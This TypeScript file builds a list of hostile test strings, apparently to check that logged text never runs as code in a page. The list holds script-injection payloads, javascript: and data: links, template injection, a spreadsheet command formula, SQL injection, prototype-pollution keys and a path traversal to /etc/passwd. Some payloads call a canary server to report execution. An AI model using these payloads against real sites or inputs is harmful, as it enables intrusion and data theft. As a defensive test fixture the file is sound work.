/** What a text would do if a page took it for code: it says so to the page and to a server that listens. */
function attacks(canary: string): readonly string[] {
  const act = `top.hostile=1;window.hostile=1;fetch('${canary}/fetch')`;
  return [
    `<script>${act}</script>`,
    `<script src="${canary}/script.js"></script>`,
    `<img src=x onerror="${act}">`,
    `<img src="${canary}/image.png">`,
    `<image href=x onerror="${act}">`,
    `<svg onload="${act}">`,
    `<svg><script>${act}</script></svg>`,
    `<svg><animate onbegin="${act}" attributeName=x dur=1s>`,
    `<iframe src="javascript:${act}"></iframe>`,
    `<iframe srcdoc="<script>${act}</script>"></iframe>`,
    `<iframe src="${canary}/frame"></iframe>`,
    `<a href="javascript:${act}">link</a>`,
    `<body onload="${act}">`,
    `<details open ontoggle="${act}">x</details>`,
    `<video src=x onerror="${act}"></video>`,
    `<audio src="${canary}/sound" autoplay></audio>`,
    `<input autofocus onfocus="${act}">`,
    `<marquee onstart="${act}">x</marquee>`,
    `<object data="javascript:${act}"></object>`,
    `<embed src="${canary}/embed">`,
    `<form action="javascript:${act}"><button>x</button></form>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${act}">`,
    `<style>@import "${canary}/style.css";</style>`,
    `<div style="background:url(${canary}/background)">x</div>`,
    `<link rel=stylesheet href="${canary}/link.css">`,
    `<meta http-equiv=refresh content="0;url=${canary}/refresh">`,
    `<base href="${canary}/">`,
    `<template><script>${act}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror='${act}'>">`,
    `[link](javascript:${encodeURIComponent(act)})`,
    `[link](JaVaScRiPt:${encodeURIComponent(act)})`,
    `[link](data:text/html,<script>${act}</script>)`,
    `![picture](${canary}/markdown.png)`,
    `![picture](x" onerror="${act})`,
    `[reference]: javascript:${encodeURIComponent(act)}`,
    `<javascript:${encodeURIComponent(act)}>`,
    `javascript:${act}`,
    `data:text/html,<script>${act}</script>`,
    `{{constructor.constructor("${act}")()}}`,
    `\${${act}}`,
    `=cmd|' /C calc'!A0`,
    `=HYPERLINK("${canary}/formula","x")`,
    `'; DROP TABLE runs; --`,
    `__proto__`,
    `constructor.prototype`,
    `%3Cscript%3E${encodeURIComponent(act)}%3C/script%3E`,
    `&lt;script&gt;${act}&lt;/script&gt;`,
    `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
    `../../../etc/passwd`,
    '\u202Etxt.exe\u2066\u2028\u0007',
    `שלום ${'🐎'.repeat(250)}`,
    'a'.repeat(3000),
  ];
}

/** Out of a value, an attribute, a comment or a text into the page. */
const ESCAPES = ['', '">', "'>", '--></title></textarea></style></script>', ']]>\n\n'];

/** Texts that people log and nobody may run. */
export function hostileTexts(canary: string): readonly string[] {
  return ESCAPES.flatMap((escape) => attacks(canary).map((attack) => escape + attack));
}
